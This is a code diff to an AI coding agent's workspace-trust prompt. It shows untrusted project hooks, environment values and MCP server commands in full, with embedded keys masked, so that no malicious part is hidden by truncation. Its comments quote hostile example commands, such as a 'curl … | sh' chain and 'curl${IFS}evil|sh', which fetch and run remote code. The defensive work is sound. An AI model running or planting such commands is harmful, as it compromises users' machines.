@@ -6,7 +6,7 @@
  */
 import { relative, resolve } from 'node:path';
 import type { CommandHook, HooksConfig } from '@agent/command-hooks';
-import { credentialRuleOf, type PermissionMode } from '@agent/core';
+import { credentialRuleOf, credentialValueRules, type PermissionMode } from '@agent/core';
 import type { SandboxMode } from '@agent/sandbox';
 import type { TrustItem } from '@agent/workspace-trust';
 import type { McpServerEntry } from './mcp-servers.js';
@@ -47,53 +47,82 @@ interface Part {
   apply(target: Settings, servers: Map<string, McpServerEntry>): void;
 }
 
-function shorten(text: string, max = 100): string {
-  const line = text.replace(/\s+/g, ' ');
-  return line.length > max ? `${line.slice(0, max - 1)}…` : line;
+/**
+ * Longest text of one item the trust question shows (characters). What is asked about is shown
+ * whole — a hook clipped after 100 characters showed `echo "…` while `; curl … | sh` ran after
+ * the cut — and an item longer than this is not shown at all, said so with where to read it.
+ */
+export const maximumShownItemChars = 2000;
+
+/**
+ * A run of key characters inside a credential-shaped match (no `/` or `.`: a path stays
+ * readable), masked after its first four characters.
+ */
+const keyRun = /[A-Za-z0-9_~+=-]{8,}/g;
+
+/**
+ * `text` with the key inside each credential-shaped part masked (`sk-a***`), and nothing else:
+ * the notice goes to stderr, which CI keeps in its logs, and a project file can be a link to the
+ * user's own settings. Only runs of key characters are masked, never a whole word — a hook
+ * `curl${IFS}evil|sh;sk-…` was shown as `***` whole, its command hidden behind the key it carried.
+ */
+function maskKeys(text: string): string {
+  let shown = text;
+  for (const rule of credentialValueRules) {
+    const global = new RegExp(rule.pattern.source, `${rule.pattern.flags.replace('g', '')}g`);
+    shown = shown.replace(global, (match) =>
+      match.replace(keyRun, (run) => `${run.slice(0, 4)}***`),
+    );
+  }
+  return shown;
 }
 
 /**
- * A value as the trust notice and question show it: a credential (by its name or its shape) is
- * not printed — the notice goes to stderr, which CI keeps in its logs, and a project file can be a
- * link to the user's own settings.
+ * What a trust item shows of `text` (a command line, a URL, a value): all of it, keys masked, or
+ * for one over {@link maximumShownItemChars} its size and where to read it — never a part.
  */
-function shownValue(name: string, value: string): string {
-  return credentialRuleOf(name, value) === undefined
-    ? shorten(value, 60)
+function shownText(text: string, where: string): string {
+  if (text.length > maximumShownItemChars)
+    return `(${text.length} characters, too long to show here: read ${where})`;
+  return maskKeys(text);
+}
+
+/**
+ * A value as the trust notice and question show it: that of a variable named like a credential
+ * (`GITHUB_TOKEN`) is not printed; of any other, only the keys inside it are masked.
+ */
+function shownValue(name: string, value: string, where: string): string {
+  return credentialRuleOf(name, undefined) === undefined
+    ? shownText(value, where)
     : '[a credential, not shown]';
 }
 
-/** A command line with each word shaped like a key or token (`sk-…`, `ghp_…`, a JWT…) left out. */
-function shownWords(line: string): string {
-  return line
-    .split(/(\s+)/)
-    .map((word) => (credentialRuleOf('', word) === undefined ? word : '***'))
-    .join('');
-}
-
 /** A URL with its password and credential-like query values left out. */
-function shownUrl(url: string): string {
+function shownUrl(url: string, where: string): string {
   let parsed: URL;
   try {
     parsed = new URL(url);
   } catch {
-    return shorten(url);
+    return shownText(url, where);
   }
   if (parsed.password !== '') parsed.password = '***';
   for (const [name, value] of [...parsed.searchParams])
     if (credentialRuleOf(name, value) !== undefined) parsed.searchParams.set(name, '***');
-  return shorten(parsed.href);
+  return shownText(parsed.href, where);
 }
 
-function describeServer(entry: McpServerEntry): string {
+function describeServer(entry: McpServerEntry, where: string): string {
   const transport = entry.transport;
   if (transport.type === 'stdio') {
-    const env = Object.keys(transport.env ?? {});
-    return `MCP server "${entry.name}" runs: ${shorten(shownWords([transport.command, ...(transport.args ?? [])].join(' ')))}${env.length > 0 ? ` (env ${env.join(', ')})` : ''}`;
+    // Its environment changes what it runs (NODE_OPTIONS, PYTHONPATH…): values shown too.
+    const env = Object.entries(transport.env ?? {}).map(
+      ([name, value]) => `${name}=${shownValue(name, value, `${where}.env.${name}`)}`,
+    );
+    return `MCP server "${entry.name}" runs: ${shownText([transport.command, ...(transport.args ?? [])].join(' '), where)}${env.length > 0 ? ` (env ${env.join(' ')})` : ''}`;
   }
   if (transport.type === 'http') {
     const headers = Object.keys(transport.headers ?? {});
-    return `MCP server "${entry.name}" connects to ${shownUrl(String(transport.url))}${headers.length > 0 ? ` (headers ${headers.join(', ')})` : ''}`;
+    return `MCP server "${entry.name}" connects to ${shownUrl(String(transport.url), where)}${headers.length > 0 ? ` (headers ${headers.join(', ')})` : ''}`;
   }
   return `MCP server "${entry.name}" (a custom transport)`;
 }
@@ -242,9 +271,15 @@ function layerParts(layer: SettingsLayer, baseline: TrustBaseline, project: stri
     });
   }
   for (const [name, value] of Object.entries(file.env ?? {}))
-    widening('env', `env.${name}`, `env ${name}=${shownValue(name, value)}`, value, (target) => {
-      target.env[name] = value;
-    });
+    widening(
+      'env',
+      `env.${name}`,
+      `env ${name}=${shownValue(name, value, `${source} env.${name}`)}`,
+      value,
+      (target) => {
+        target.env[name] = value;
+      },
+    );
   for (const [event, entries] of Object.entries(file.hooks ?? {}) as [
     keyof HooksConfig,
     NonNullable<HooksConfig[keyof HooksConfig]>,
@@ -255,7 +290,7 @@ function layerParts(layer: SettingsLayer, baseline: TrustBaseline, project: stri
         widening(
           'hook',
           `hooks.${event}[${i}].hooks[${j}]`,
-          `hook ${event}${matcher === undefined || matcher === '' ? '' : ` (${matcher})`} runs: ${shorten(shownWords(hook.command))}`,
+          `hook ${event}${matcher === undefined || matcher === '' ? '' : ` (${matcher})`} runs: ${shownText(hook.command, `${source} hooks.${event}[${i}].hooks[${j}]`)}`,
           {
             matcher: matcher ?? null,
             command: hook.command,
@@ -277,7 +312,7 @@ function layerParts(layer: SettingsLayer, baseline: TrustBaseline, project: stri
     widening(
       'mcp-server',
       `mcpServers.${entry.name}`,
-      describeServer(entry),
+      describeServer(entry, `${source} mcpServers.${entry.name}`),
       !trusted && 'command' in entry.transport
         ? {
             ...entry.transport,
